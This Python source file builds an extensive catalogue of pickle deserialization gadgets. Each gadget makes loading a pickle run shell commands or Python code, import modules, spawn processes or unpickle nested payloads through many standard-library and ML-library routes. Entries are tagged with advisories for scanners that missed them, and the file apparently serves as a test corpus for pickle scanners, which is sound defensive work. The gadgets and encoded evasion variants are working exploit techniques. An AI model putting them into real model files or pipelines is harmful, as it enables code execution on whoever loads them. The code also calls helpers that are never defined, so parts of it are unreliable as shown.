"""Callables that execute code, start programs, load modules or reach files and networks, each called by one pickle.

Every entry is (id, technique, advisories, expression). The advisories are public identifiers of tools that once missed it.
"""
import marshal

from assembler import COMPANION, EXPRESSION, FILE, PYTHON, SH, SHELL, Build, Call, G, New, Raw, Seq, dump, emit
from reach import reach

NESTED = dump(Call("os:system", SHELL))
FUNCTION = Call("types:FunctionType", Call("builtins:compile", PYTHON, "m", "exec"), {})
SYSTEM = G("os:system")


def method(owner, name, made, *args):
    """owner.name(made, *args): an unbound method reached by a dotted name."""
    module, cls = owner.split(":")
    return Call(f"{module}:{cls}.{name}", made, *args)


def made(cls, *args):
    return Call(cls, *args)


def gadgets():
    out = []

    def add(technique, name, expression, *advisories):
        out.append((name, technique, list(advisories), expression))

    t = "direct execution"
    add(t, "os.system", Call("os:system", SHELL))
    add(t, "posix.system", Call("posix:system", SHELL))
    add(t, "nt.system", Call("nt:system", SHELL))
    add(t, "os.popen", Call("os:popen", SHELL))
    add(t, "commands.getoutput", Call("commands:getoutput", SHELL))
    add(t, "popen2.popen2", Call("popen2:popen2", SHELL))
    for name in ("call", "run", "check_call", "check_output", "Popen"):
        add(t, f"subprocess.{name}", Call(f"subprocess:{name}", SH))
    for name in ("getoutput", "getstatusoutput"):
        add(t, f"subprocess.{name}", Call(f"subprocess:{name}", SHELL))
    add(t, "os.execv", Call("os:execv", "/bin/sh", SH))
    add(t, "os.execl", Call("os:execl", "/bin/sh", *SH))
    add(t, "os.execvp", Call("os:execvp", "sh", SH))
    add(t, "os.execlp", Call("os:execlp", "sh", *SH))
    add(t, "os.spawnv", Call("os:spawnv", 0, "/bin/sh", SH))
    add(t, "os.spawnlp", Call("os:spawnlp", 0, "sh", *SH))
    add(t, "os.spawnl", Call("os:spawnl", 0, "/bin/sh", *SH))
    add(t, "os.spawnvp", Call("os:spawnvp", 0, "sh", SH))
    add(t, "os.posix_spawn", Call("os:posix_spawn", "/bin/sh", SH, G("os:environ")))
    add(t, "posix.posix_spawnp", Call("posix:posix_spawnp", "sh", SH, G("os:environ")))
    add(t, "pty.spawn", Call("pty:spawn", SH), "GHSA-hgrh-qx5j-jfwx", "GHSA-r7v6-mfhq-g3m2", "CVE-2025-67748", "CVE-2025-71322")
    add(t, "_posixsubprocess.fork_exec", Call(
        "_posixsubprocess:fork_exec", [b"sh", b"-c", SHELL.encode()], (b"/bin/sh",), False, (9,), None, None,
        -1, -1, -1, -1, -1, -1, -1, 9, False, False, -1, None, None, None, -1, None, False),
        "GHSA-m6fh-58r7-x697", "CVE-2026-14534")
    add(t, "os._exit", Call("os:_exit", 42))

    t = "code as text"
    add(t, "builtins.eval", Call("builtins:eval", EXPRESSION), "GHSA-h4rm-mm56-xf63", "CVE-2026-22612")
    add(t, "builtins.exec", Call("builtins:exec", PYTHON))
    add(t, "__builtin__.eval", Call("__builtin__:eval", EXPRESSION))
    add(t, "builtins.eval split", Call("builtins:eval", Call("builtins:str.join", "", ["open(__import__('o", "s').environ['CASTELLAN_CORPUS_MARKER'],'w')"])), "GHSA-9m3x-qqw2-h32h", "CVE-2026-53874")
    t = "code objects"
    add(t, "compile then FunctionType", Call(FUNCTION), "GHSA-565g-hwwr-4pp3", "CVE-2025-67747")
    add(t, "compile then exec", Call("builtins:exec", Call("builtins:compile", PYTHON, "m", "exec")))
    add(t, "marshal.loads then exec", Call("builtins:exec", Call("marshal:loads", marshal.dumps(compile(PYTHON, "m", "exec")))), "GHSA-565g-hwwr-4pp3")
    add(t, "marshal.loads then FunctionType", Call(Call("types:FunctionType", Call("marshal:loads", marshal.dumps(compile(PYTHON, "m", "exec"))), {})), "CVE-2025-67747")
    code = compile(PYTHON, "m", "exec")
    add(t, "types.CodeType", Call(Call("types:FunctionType", Call(
        "types:CodeType", 0, 0, 0, 0, code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names, (), "m", "m",
        *([] if not hasattr(code, "co_qualname") else [code.co_qualname]), 1, code.co_linetable,
        *([code.co_exceptiontable] if hasattr(code, "co_exceptiontable") else [])), {})))
    t = "profilers, tracers and timers"
    add(t, "timeit.timeit", Call("timeit:timeit", PYTHON, "pass", G("time:perf_counter"), 1), "GHSA-v7x6-rv5q-mhwc")
    add(t, "timeit.repeat", Call("timeit:repeat", PYTHON, "pass", G("time:perf_counter"), 1, 1))
    add(t, "timeit.main", Call("timeit:main", ["-n", "1", "-r", "1", PYTHON]))
    add(t, "timeit setup", Call("timeit:timeit", "pass", PYTHON))
    for module in ("cProfile", "profile"):
        add(t, f"{module}.run", Call(f"{module}:run", PYTHON, "stats.out"), "GHSA-p523-jq9w-64x9", "CVE-2026-22607", "GHSA-7wx9-6375-f5wh", "CVE-2026-53873")
        add(t, f"{module}.runctx", Call(f"{module}:runctx", PYTHON, {}, {}, "stats.out"), "GHSA-9w88-8rmg-7g2p", "CVE-2025-71378")
        add(t, f"{module}.Profile.run", method(f"{module}:Profile", "run", made(f"{module}:Profile"), PYTHON), "GHSA-x696-vm39-cp64")
        add(t, f"{module}.Profile.runctx", method(f"{module}:Profile", "runctx", made(f"{module}:Profile"), PYTHON, {}, {}), "GHSA-6vqj-c2q5-j97w")
        add(t, f"{module}.Profile.runcall", method(f"{module}:Profile", "runcall", made(f"{module}:Profile"), SYSTEM, SHELL))
    add(t, "trace.Trace.run", method("trace:Trace", "run", made("trace:Trace", 0, 0), PYTHON), "GHSA-5qwp-399c-mjwf")
    add(t, "trace.Trace.runctx", method("trace:Trace", "runctx", made("trace:Trace", 0, 0), PYTHON, {}, {}), "GHSA-g344-hcph-8vgg")
    add(t, "trace.Trace.runfunc", method("trace:Trace", "runfunc", made("trace:Trace", 0, 0), SYSTEM, SHELL))
    t = "debuggers"
    for name, argument in (("run", PYTHON), ("runeval", EXPRESSION)):
        add(t, f"bdb.Bdb.{name}", method("bdb:Bdb", name, made("bdb:Bdb"), argument), "GHSA-46h3-79wf-xr6c", "GHSA-4675-36f9-wf6r")
        add(t, f"pdb.{name}", Call(f"pdb:{name}", argument))
    add(t, "bdb.Bdb.runctx", method("bdb:Bdb", "runctx", made("bdb:Bdb"), PYTHON, {}, {}))
    add(t, "bdb.Bdb.runcall", method("bdb:Bdb", "runcall", made("bdb:Bdb"), SYSTEM, SHELL))
    add(t, "pdb.runcall", Call("pdb:runcall", SYSTEM, SHELL))
    t = "doctest and interactive interpreters"
    add(t, "doctest.debug_script", Call("doctest:debug_script", PYTHON, False, {}), "GHSA-fqq6-7vqf-w3fg")
    add(t, "doctest.run_docstring_examples", Call("doctest:run_docstring_examples", ">>> " + EXPRESSION + "\n", {}))
    add(t, "doctest.testfile", Call("doctest:testfile", f"{COMPANION}.doctest", False))
    add(t, "code.runsource", method("code:InteractiveInterpreter", "runsource", made("code:InteractiveInterpreter"), PYTHON))
    add(t, "code.runcode", method("code:InteractiveInterpreter", "runcode", made("code:InteractiveInterpreter"), Call("builtins:compile", PYTHON, "m", "exec")))
    add(t, "code.push", method("code:InteractiveConsole", "push", made("code:InteractiveConsole"), PYTHON))
    add(t, "codeop.compile_command", Call("builtins:exec", Call("codeop:compile_command", PYTHON)))
    add(t, "runpy._run_code", Call("runpy:_run_code", Call("builtins:compile", PYTHON, "m", "exec"), {}))
    add(t, "runpy._run_module_code", Call("runpy:_run_module_code", Call("builtins:compile", PYTHON, "m", "exec"), {}, "m"))
    t = "annotations and generated functions"
    add(t, "dataclasses._create_fn", Call(Call("dataclasses:_create_fn", "f", [], [EXPRESSION])))
    add(t, "typing.ForwardRef._evaluate", Call("typing:ForwardRef._evaluate", Call("typing:ForwardRef", EXPRESSION), {}, {}, Call("builtins:frozenset")))
    add(t, "typing._eval_type", Call("typing:_eval_type", Call("typing:ForwardRef", EXPRESSION), {}, {}))
    t = "embedded interpreters and templates"
    add(t, "_tkinter.create eval", Call(Call("builtins:getattr", Call("tkinter:Tcl"), "eval"), "exec sh -c {" + SHELL + "}"))
    add(t, "jinja2.Template.render", Call("jinja2:Template.render", Call("jinja2:Template", "{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}")))
    add(t, "yaml.unsafe_load", Call("yaml:unsafe_load", "!!python/object/apply:os.system ['" + SHELL + "']"))
    add(t, "yaml.load", Call("yaml:load", "!!python/object/apply:os.system ['" + SHELL + "']", G("yaml:UnsafeLoader")))
    t = "development tools of the standard library"
    add(t, "idlelib.calltip.get_entity", Call("idlelib.calltip:get_entity", EXPRESSION), "GHSA-8r4j-24qv-fmq9", "CVE-2025-71361")
    add(t, "idlelib.autocomplete.get_entity", Call("idlelib.autocomplete:AutoComplete.get_entity", None, EXPRESSION), "GHSA-6w4w-5w54-rjvr", "CVE-2025-71358")
    add(t, "idlelib.autocomplete.fetch_completions", Call("idlelib.autocomplete:AutoComplete.fetch_completions", Call("idlelib.autocomplete:AutoComplete", None), EXPRESSION, 1), "GHSA-7cq8-mj8x-j263")
    add(t, "idlelib.calltip.fetch_tip", Call("idlelib.calltip:Calltip.fetch_tip", Call("idlelib.calltip:Calltip", None), EXPRESSION))
    add(t, "idlelib.debugobj.ObjectTreeItem", Call("idlelib.debugobj:ObjectTreeItem.SetText", Call("idlelib.debugobj:ObjectTreeItem", "x", 1, G("builtins:print")), EXPRESSION), "GHSA-3vg9-h568-4w9m", "CVE-2025-71354")
    add(t, "idlelib.run.Executive.runcode", Call("idlelib.run:Executive.runcode", Build(New("types:SimpleNamespace"), {"locals": {}}), Call("builtins:compile", PYTHON, "m", "exec")), "GHSA-m869-42cg-3xwr")
    add(t, "idlelib.pyshell.runcode", Call("idlelib.pyshell:ModifiedInterpreter.runcode", Build(New("types:SimpleNamespace"), {}), FUNCTION), "GHSA-3gf5-cxq9-w223")
    add(t, "idlelib.pyshell.runcommand", Call("idlelib.pyshell:ModifiedInterpreter.runcommand", Build(New("types:SimpleNamespace"), {"rpcclt": None, "locals": {}}), PYTHON), "GHSA-j343-8v2j-ff7w", "CVE-2025-71357")
    holder = Build(New("types:SimpleNamespace"), {"labels": [], "keywords": {}, "tokens": {}, "symbol2number": {}, "symbol2label": {}})
    add(t, "lib2to3 make_label", Call("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, holder, '"x" if ' + EXPRESSION + ' else "x"'), "GHSA-p9w7-82w4-7q8m")

    t = "module import and lookup"
    add(t, "builtins.__import__", Call("builtins:__import__", COMPANION))
    add(t, "global of companion module", G(f"{COMPANION}:x"))
    add(t, "importlib.import_module", Call("importlib:import_module", COMPANION))
    add(t, "importlib.import_module os", Call(Call("builtins:getattr", Call("importlib:import_module", "os"), "system"), SHELL), "GHSA-vvpj-8cmc-gx39")
    add(t, "importlib.__import__", Call("importlib:__import__", COMPANION))
    add(t, "importlib._bootstrap._gcd_import", Call("importlib._bootstrap:_gcd_import", COMPANION))
    add(t, "SourceFileLoader.load_module", Call("importlib.machinery:SourceFileLoader.load_module", Call("importlib.machinery:SourceFileLoader", "m", f"{COMPANION}.py")))
    add(t, "spec and exec_module", Call("importlib.machinery:SourceFileLoader.exec_module", Call("importlib.machinery:SourceFileLoader", "m", f"{COMPANION}.py"), Call("types:ModuleType", "m")))
    add(t, "imp.load_source", Call("imp:load_source", "m", f"{COMPANION}.py"))
    t = "lookup of a callable by text"
    add(t, "pkgutil.resolve_name", Call(Call("pkgutil:resolve_name", "os:system"), SHELL), "GHSA-vvpj-8cmc-gx39", "CVE-2026-3490")
    add(t, "pkgutil.get_data", Call("pkgutil:get_data", COMPANION, "x"))
    add(t, "importlib.metadata.EntryPoint.load", Call(Call("importlib.metadata:EntryPoint.load", Call("importlib.metadata:EntryPoint", "n", "os:system", "g")), SHELL))
    add(t, "pydoc.locate", Call(Call("pydoc:locate", "os.system"), SHELL), "GHSA-5hvc-6wx8-mvv4", "CVE-2026-22608")
    add(t, "pydoc.safeimport", Call("pydoc:safeimport", COMPANION))
    add(t, "pydoc.importfile", Call("pydoc:importfile", f"{COMPANION}.py"))
    add(t, "pydoc.writedoc", Call("pydoc:writedoc", COMPANION))
    t = "module import and lookup"
    add(t, "zipimport.load_module", Call("zipimport:zipimporter.load_module", Call("zipimport:zipimporter", f"{COMPANION}.zip"), "zipped_payload"))
    t = "runs a file or folder"
    add(t, "runpy.run_path", Call("runpy:run_path", f"{COMPANION}.py"), "GHSA-wfq2-52f7-7qvj", "CVE-2026-22606")
    add(t, "runpy.run_module", Call("runpy:run_module", COMPANION), "CVE-2026-22606")
    add(t, "site.addsitedir", Call("site:addsitedir", "."), "GHSA-m6fh-58r7-x697")
    add(t, "site.addpackage", Call("site:addpackage", ".", f"{COMPANION}.pth", None))
    t = "lookup of a callable by text"
    add(t, "unittest loadTestsFromName", Call("unittest:TestLoader.loadTestsFromName", Call("unittest:TestLoader"), COMPANION))
    add(t, "unittest.main", Call("unittest:main", COMPANION))
    t = "configuration loaders"
    add(t, "logging.config.dictConfig", Call("logging.config:dictConfig", {"version": 1, "handlers": {"h": {"()": "os.system", "command": SHELL}}}))
    add(t, "logging.config.fileConfig", Call("logging.config:fileConfig", f"{COMPANION}.cfg"))
    add(t, "logging.config._resolve", Call(Call("logging.config:_resolve", "os.system"), SHELL))
    add(t, "logging.config.valid_ident chain", Call(Call("logging.config:BaseConfigurator.resolve", Call("logging.config:BaseConfigurator", {}), "os.system"), SHELL))
    t = "native libraries"
    add(t, "ctypes.CDLL", Call(Call("builtins:getattr", Call("ctypes:CDLL", "libc.so.6"), "system"), SHELL.encode()), "GHSA-4675-36f9-wf6r", "CVE-2025-71323", "GHSA-5hvc-6wx8-mvv4")
    add(t, "ctypes.pythonapi", Call("ctypes:pythonapi.PyRun_SimpleString", PYTHON.encode()))
    add(t, "ctypes.cdll.LoadLibrary", Call(Call("builtins:getattr", Call("ctypes:cdll.LoadLibrary", "libc.so.6"), "system"), SHELL.encode()))
    t = "helpers of cloudpickle and dill"
    add(t, "cloudpickle.subimport", Call("cloudpickle.cloudpickle:subimport", COMPANION))
    add(t, "joblib cloudpickle.subimport", Call("joblib.externals.cloudpickle.cloudpickle:subimport", COMPANION))
    add(t, "dill._import_module", Call(Call("dill._dill:_import_module", "os.system"), SHELL))
    add(t, "dill._eval_repr", Call("dill._dill:_eval_repr", EXPRESSION))
    add(t, "dill._create_function", Call(Call("dill._dill:_create_function", Call("builtins:compile", PYTHON, "m", "exec"), {"__builtins__": G("builtins:__dict__")})))
    add(t, "cloudpickle dynamic function", Call(Call("cloudpickle.cloudpickle:types.FunctionType", Call("builtins:compile", PYTHON, "m", "exec"), {})))
    t = "lookup of a callable by text"
    add(t, "pkg_resources.EntryPoint.resolve", Call(Call("pkg_resources:EntryPoint.resolve", Call("pkg_resources:EntryPoint.parse", "x = os:system")), SHELL))

    t = "calls what it is given"
    mapped = Call("builtins:map", SYSTEM, [SHELL])
    for name, expression in {
        "list": Call("builtins:list", mapped), "tuple": Call("builtins:tuple", mapped), "set": Call("builtins:set", mapped),
        "frozenset": New("builtins:frozenset", mapped), "bytes": New("builtins:bytes", mapped), "bytearray": Call("builtins:bytearray", mapped),
        "any": Call("builtins:any", mapped), "all": Call("builtins:all", mapped), "sum": Call("builtins:sum", mapped), "max": Call("builtins:max", mapped),
        "next": Call("builtins:next", mapped), "sorted": Call("builtins:sorted", mapped), "dict.fromkeys": Call("builtins:dict.fromkeys", mapped),
        "deque": Call("collections:deque", mapped), "Counter": Call("collections:Counter", mapped), "UserList": Call("collections:UserList", mapped),
        "array": Call("array:array", "i", mapped), "list.extend": Call("builtins:list.extend", [], mapped), "operator.countOf": Call("operator:countOf", mapped, 1),
        "numpy.fromiter": Call("numpy:fromiter", mapped, "i4"), "fractions": Call("statistics:mean", mapped), "heapq": Call("heapq:nsmallest", 1, mapped),
        "str.join": Call("builtins:str.join", "", Call("builtins:map", G("builtins:eval"), [EXPRESSION + " or 'x'"])),
        "OrderedDict": Call("collections:OrderedDict", Call("builtins:zip", mapped, [1])), "tuple newobj": New("builtins:tuple", mapped),
        "dict zip": Call("builtins:dict", Call("builtins:zip", mapped, [1])), "itertools.chain": Call("builtins:list", Call("itertools:chain", mapped)),
    }.items():
        add("lazy iterator consumed", f"map into {name}", expression)
    add(t, "filter", Call("builtins:list", Call("builtins:filter", SYSTEM, [SHELL])))
    add(t, "itertools.starmap", Call("builtins:list", Call("itertools:starmap", SYSTEM, [(SHELL,)])))
    add(t, "itertools.takewhile", Call("builtins:list", Call("itertools:takewhile", SYSTEM, [SHELL])))
    add(t, "itertools.dropwhile", Call("builtins:list", Call("itertools:dropwhile", SYSTEM, [SHELL])))
    add(t, "itertools.filterfalse", Call("builtins:list", Call("itertools:filterfalse", SYSTEM, [SHELL])))
    add(t, "itertools.groupby", Call("builtins:list", Call("itertools:groupby", [SHELL], SYSTEM)))
    add(t, "itertools.accumulate", Call("builtins:list", Call("itertools:accumulate", [PYTHON, {}], G("builtins:exec"))))
    add(t, "functools.reduce", Call("functools:reduce", G("builtins:exec"), [PYTHON, {}]))
    add(t, "functools.reduce getattr", Call(Call("functools:reduce", G("builtins:getattr"), ["system"], G("logging:os")), SHELL))
    t = "partial objects"
    add(t, "functools.partial", Call(Call("functools:partial", SYSTEM, SHELL)))
    add(t, "functools.partial setstate", Call(Build(Call("functools:partial", G("builtins:print")), (SYSTEM, (SHELL,), {}, None))))
    add(t, "functools.partial in map", Call("builtins:list", Call("builtins:map", Call("functools:partial", G("builtins:exec"), PYTHON), [{}])))
    add(t, "functools.partial newobj_ex", Call(New("functools:partial", G("builtins:exec"), PYTHON, kwargs={})))
    t = "getattr, operators and dictionaries"
    add(t, "operator.methodcaller", Call(Call("operator:methodcaller", "system", SHELL), G("logging:os")), "GHSA-m273-6v24-x4m4", "GHSA-955r-x9j8-7rhh")
    add(t, "_operator.attrgetter", Call(Call(Call("_operator:attrgetter", "system"), G("logging:os")), SHELL), "GHSA-955r-x9j8-7rhh")
    add(t, "operator.attrgetter dotted", Call(Call(Call("operator:attrgetter", "path.os.system"), G("logging:os")), SHELL))
    add(t, "operator.itemgetter modules", Call(Call("builtins:getattr", Call(Call("operator:itemgetter", "os"), G("sys:modules")), "system"), SHELL))
    add(t, "operator.getitem modules", Call(Call("builtins:getattr", Call("operator:getitem", G("sys:modules"), "posix"), "system"), SHELL))
    add(t, "operator.call", Call("operator:call", SYSTEM, SHELL))
    add(t, "sys.modules.get", Call(Call("builtins:getattr", Call("sys:modules.get", "os"), "system"), SHELL))
    add(t, "builtins.getattr", Call(Call("builtins:getattr", G("logging:os"), "system"), SHELL))
    add(t, "builtins.vars", Call(Call("operator:getitem", Call("builtins:vars", G("logging:os")), "system"), SHELL))
    add(t, "builtins.__dict__", Call(Call("operator:getitem", G("builtins:__dict__"), "eval"), EXPRESSION))
    add(t, "builtins.__dict__.get", Call(Call("builtins:__dict__.get", "eval"), EXPRESSION))
    t = "calls what it is given"
    add(t, "types.MethodType", Call(Call("types:MethodType", SYSTEM, SHELL)))
    add(t, "types.MethodType kept", Call("builtins:list", Call("builtins:iter", Call("types:MethodType", SYSTEM, SHELL), 0)))
    add(t, "iter with sentinel", Call("builtins:next", Call("builtins:iter", Call("functools:partial", SYSTEM, SHELL), 1)))
    add(t, "collections.defaultdict", Call("operator:getitem", Call("collections:defaultdict", Call("functools:partial", SYSTEM, SHELL)), "x"))
    t = "threads and processes"
    add(t, "threading.Thread", Call("threading:Thread.start", Call("threading:Thread", None, SYSTEM, None, (SHELL,))))
    add(t, "threading.Thread.run", Call("threading:Thread.run", Call("threading:Thread", None, SYSTEM, None, (SHELL,))))
    add(t, "threading.Timer", Call("threading:Timer.start", Call("threading:Timer", 0, SYSTEM, (SHELL,))))
    add(t, "_thread.start_new_thread", Seq(Call("_thread:start_new_thread", SYSTEM, (SHELL,)), Call("time:sleep", 0.3)))
    add(t, "multiprocessing.Process", Call("multiprocessing.context:Process.start", Call("multiprocessing.context:Process", None, SYSTEM, None, (SHELL,))))
    add(t, "multiprocessing.ThreadPool", Seq(Call("multiprocessing.pool:ThreadPool", 1, SYSTEM, (SHELL,)), Call("time:sleep", 0.3)))
    add(t, "multiprocessing.spawnv_passfds", Call("multiprocessing.util:spawnv_passfds", b"/bin/sh", SH, ()))
    add(t, "concurrent.futures submit", Call("concurrent.futures.thread:ThreadPoolExecutor.submit", Call("concurrent.futures.thread:ThreadPoolExecutor", 1), SYSTEM, SHELL))
    add(t, "concurrent.futures map", Call("builtins:list", Call("concurrent.futures.thread:ThreadPoolExecutor.map", Call("concurrent.futures.thread:ThreadPoolExecutor", 1), SYSTEM, [SHELL])))
    add(t, "concurrent.futures _WorkItem", Call("concurrent.futures.thread:_WorkItem.run", Call("concurrent.futures.thread:_WorkItem", Call("concurrent.futures:Future"), SYSTEM, (SHELL,), {})))
    t = "runs at exit"
    add(t, "atexit.register", Call("atexit:register", SYSTEM, SHELL), "GHSA-m6fh-58r7-x697")
    add(t, "weakref.finalize", Call("weakref:finalize", G("weakref:finalize"), SYSTEM, SHELL))
    add(t, "multiprocessing.util.Finalize", Call("multiprocessing.util:Finalize", None, SYSTEM, (SHELL,), None, 1))
    t = "calls what it is given"
    add(t, "contextlib.ExitStack", Seq(Call("contextlib:ExitStack.__exit__", Call("contextlib:ExitStack"), None, None, None), Call(Call("contextlib:ExitStack.callback", Call("contextlib:ExitStack"), SYSTEM, SHELL), SHELL)))
    add(t, "sched.scheduler", Seq(Raw(emit(Call("sched:scheduler")) + b"q\x63"), Call("sched:scheduler.enter", Raw(b"h\x63"), 0, 1, SYSTEM, (SHELL,)), Call("sched:scheduler.run", Raw(b"h\x63"))))
    t = "asyncio"
    add(t, "asyncio.run shell", Call("asyncio:run", Call("asyncio:create_subprocess_shell", SHELL)))
    add(t, "asyncio.run exec", Call("asyncio:run", Call("asyncio:create_subprocess_exec", *SH)))
    add(t, "asyncio transport start", Call("asyncio.unix_events:_UnixSubprocessTransport._start", Build(New("types:SimpleNamespace"), {}), SHELL, True, None, None, None, 0), "GHSA-f7qq-56ww-84cr", "CVE-2025-10157")
    add(t, "asyncio.run to_thread", Call("asyncio:run", Call("asyncio:to_thread", SYSTEM, SHELL)))
    t = "numpy functions that call or run"
    add(t, "numpy.frompyfunc", Call(Call("numpy:frompyfunc", SYSTEM, 1, 1), SHELL))
    add(t, "numpy.vectorize", Call(Call("numpy:vectorize", SYSTEM), [SHELL]))
    add(t, "numpy.testing.assert_raises", Call("numpy.testing:assert_raises", G("builtins:Exception"), SYSTEM, SHELL))
    add(t, "numpy.testing.measure", Call("numpy.testing:measure", PYTHON))
    add(t, "numpy.testing.rundocs", Call("numpy.testing:rundocs", f"{COMPANION}.py"))
    add(t, "numpy runstring", Call("numpy.testing._private.utils:runstring", PYTHON, {}), "GHSA-fj43-3qmq-673f", "CVE-2025-71355")
    add(t, "numpy f2py getlincoef", Call("numpy.f2py.crackfortran:getlincoef", EXPRESSION, {}))
    add(t, "numpy f2py _eval_length", Call("numpy.f2py.crackfortran:_eval_length", EXPRESSION, {}), "GHSA-6556-fwc2-fg2p", "CVE-2025-71339")
    add(t, "numpy f2py myeval", Call("numpy.f2py.crackfortran:myeval", EXPRESSION, {}, {}))
    add(t, "numpy exec_command", Call("numpy.distutils.exec_command:exec_command", SHELL))
    add(t, "numpy cpuinfo getoutput", Call("numpy.distutils.cpuinfo:getoutput", SHELL))
    t = "pandas, joblib and sklearn functions that call"
    add(t, "pandas pipe", Call("pandas.core.common:pipe", SHELL, SYSTEM))
    add(t, "pandas apply_if_callable", Call("pandas.core.common:apply_if_callable", SYSTEM, SHELL))
    add(t, "pandas.eval", Call("pandas:eval", "@pd.core.common.builtins.exec(\"" + PYTHON + "\")", "pandas", "python", True, {"pd": G("sys:modules")}))
    add(t, "joblib.Parallel", Call(Call("joblib:Parallel", 1), [(SYSTEM, (SHELL,), {})]))
    add(t, "joblib BatchedCalls", Call(Call("joblib.parallel:BatchedCalls", [(SYSTEM, (SHELL,), {})], (Call("joblib._parallel_backends:SequentialBackend"), 1))))
    add(t, "sklearn FunctionTransformer", Call("sklearn.preprocessing:FunctionTransformer.transform", Call("sklearn.preprocessing:FunctionTransformer", SYSTEM), SHELL))
    add(t, "sklearn FunctionTransformer state", Call("sklearn.preprocessing:FunctionTransformer.transform", Build(New("sklearn.preprocessing:FunctionTransformer"), {"func": SYSTEM, "validate": False, "kw_args": None}), SHELL))
    t = "helpers that start a program"
    add(t, "uuid._get_command_stdout", Call("uuid:_get_command_stdout", *SH), "GHSA-g38g-8gr9-h9xp", "CVE-2026-56315")
    add(t, "_osx_support._read_output", Call("_osx_support:_read_output", SHELL), "CVE-2026-56315")
    add(t, "_aix_support._read_cmd_output", Call("_aix_support:_read_cmd_output", SHELL), "CVE-2026-56315")
    add(t, "_bootsubprocess.Popen", Call("_bootsubprocess:Popen.wait", Call("_bootsubprocess:Popen", ["/bin/sh", "-c", SHELL])))
    add(t, "imaplib.IMAP4_stream", Call("imaplib:IMAP4_stream", SHELL), "CVE-2026-56315")
    add(t, "_pyrepl.pager.pipe_pager", Call("_pyrepl.pager:pipe_pager", "x", SHELL), "CVE-2026-56315")
    add(t, "pydoc.pipepager", Call("pydoc:pipepager", "x", SHELL))
    add(t, "pydoc.tempfilepager", Call("pydoc:tempfilepager", "x", SHELL + " ;:"))
    add(t, "webbrowser.GenericBrowser", Call("webbrowser:GenericBrowser.open", Call("webbrowser:GenericBrowser", SH), "x"))
    add(t, "webbrowser.BackgroundBrowser", Call("webbrowser:BackgroundBrowser.open", Call("webbrowser:BackgroundBrowser", SH), "x"))
    add(t, "distutils.spawn", Call("distutils.spawn:spawn", SH))
    add(t, "mlflow run entry point", Call("mlflow.projects.backend.local:_run_entry_point", SHELL, ".", "", ""), "modelscan issue 338")
    t = "package installers"
    add(t, "pip.main", Call("pip:main", ["download", "--no-deps", "--no-index", "-d", "castellan-pip", f"./{COMPANION}_package"]), "GHSA-655q-fx9r-782v", "CVE-2025-1716")
    add(t, "pip._internal.main", Call("pip._internal:main", ["download", "--no-deps", "--no-index", f"./{COMPANION}_package"]), "GHSA-vqmv-47xg-9wpr")
    add(t, "ensurepip._run_pip", Call("ensurepip:_run_pip", ["download", "--no-deps", "--no-index", f"./{COMPANION}_package"]), "GHSA-xp4f-hrf8-rxw7", "CVE-2025-71344")
    add(t, "venv.create", Call("venv:create", FILE))
    add(t, "test.support script_helper", Call("test.support.script_helper:assert_python_ok", "-c", PYTHON))

    t = "nested load"
    for module in ("pickle", "_pickle"):
        add(t, f"{module}.loads", Call(f"{module}:loads", NESTED), "GHSA-84r2-jw7c-4r5q", "CVE-2025-71320")
        add(t, f"{module}.Unpickler.load", Call(f"{module}:Unpickler.load", Call(f"{module}:Unpickler", Call("io:BytesIO", NESTED))))
        add(t, f"{module}.load", Call(f"{module}:load", Call("io:BytesIO", NESTED)))
    add(t, "pickle._loads", Call("pickle:_loads", NESTED))
    add(t, "pickle._Unpickler.load", Call("pickle:_Unpickler.load", Call("pickle:_Unpickler", Call("io:BytesIO", NESTED))))
    add(t, "pickle.loads thrice", Call("pickle:loads", dump(Call("pickle:loads", dump(Call("pickle:loads", NESTED))))))
    add(t, "pickle.loads decoded", Call("pickle:loads", Call("_codecs:encode", NESTED.decode("latin1"), "latin1")))
    add(t, "pickle.loads base64", Call("pickle:loads", Call("base64:b64decode", __import__("base64").b64encode(NESTED))))
    add(t, "pickle.loads zlib", Call("pickle:loads", Call("zlib:decompress", __import__("zlib").compress(NESTED))))
    add(t, "pickle.loads bytearray", Call("pickle:loads", Call("builtins:bytearray", NESTED)))
    add(t, "pickle.load of a file", Call("pickle:load", Call("builtins:open", f"{COMPANION}.pkl", "rb")))
    add(t, "lib2to3 Grammar.loads", Call("lib2to3.pgen2.grammar:Grammar.loads", Call("lib2to3.pgen2.grammar:Grammar"), dump(Seq(Call("os:system", SHELL), {}))), "GHSA-f54q-57x4-jg88")
    add(t, "dill.loads", Call("dill:loads", NESTED))
    add(t, "cloudpickle.loads", Call("cloudpickle:loads", NESTED))
    add(t, "joblib.load", Call("joblib:load", f"{COMPANION}.pkl"))
    add(t, "pandas.read_pickle", Call("pandas:read_pickle", f"{COMPANION}.pkl"))
    add(t, "numpy.load", Call("numpy:load", f"{COMPANION}.pkl", None, True))
    add(t, "numpy read_array", Call("numpy.lib.format:read_array", Call("io:BytesIO", npy_object(NESTED)), True))
    add(t, "torch.load", Call("torch:load", f"{COMPANION}.pkl"))
    add(t, "torch _load_from_bytes", Call("torch.storage:_load_from_bytes", torch_legacy(NESTED)))
    add(t, "shelve", Call("shelve:Shelf.__getitem__", Call("shelve:Shelf", {b"x": NESTED}), "x"))
    add(t, "multiprocessing ForkingPickler.loads", Call("multiprocessing.reduction:ForkingPickler.loads", NESTED))
    add(t, "xmlrpc datetime loads", Call("pickle:loads", Call("xmlrpc.client:Binary.__str__", Call("xmlrpc.client:Binary", NESTED))))
    add(t, "logging unpickle", Call("logging.handlers:pickle.loads", NESTED))

    t = "torch internals"
    add(t, "torch bottleneck run_cprofile", Call("torch.utils.bottleneck.__main__:run_cprofile", Call("builtins:compile", PYTHON, "m", "exec"), {}), "GHSA-4r9r-ch6f-vxmx")
    add(t, "torch bottleneck run_autograd_prof", Call("torch.utils.bottleneck.__main__:run_autograd_prof", Call("builtins:compile", PYTHON, "m", "exec"), {}), "GHSA-4whj-rm5r-c2v8")
    add(t, "torch collect_env.run", Call("torch.utils.collect_env:run", SHELL), "GHSA-f745-w6jp-hpxx")
    add(t, "torch basichandlers", Call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pkl", NESTED), "GHSA-h3qp-7fh3-f8h4")
    add(t, "torch execWrapper", Call("torch.jit.unsupported_tensor_ops:execWrapper", PYTHON, {}, {}), "GHSA-vr7h-p6mm-wpmh")
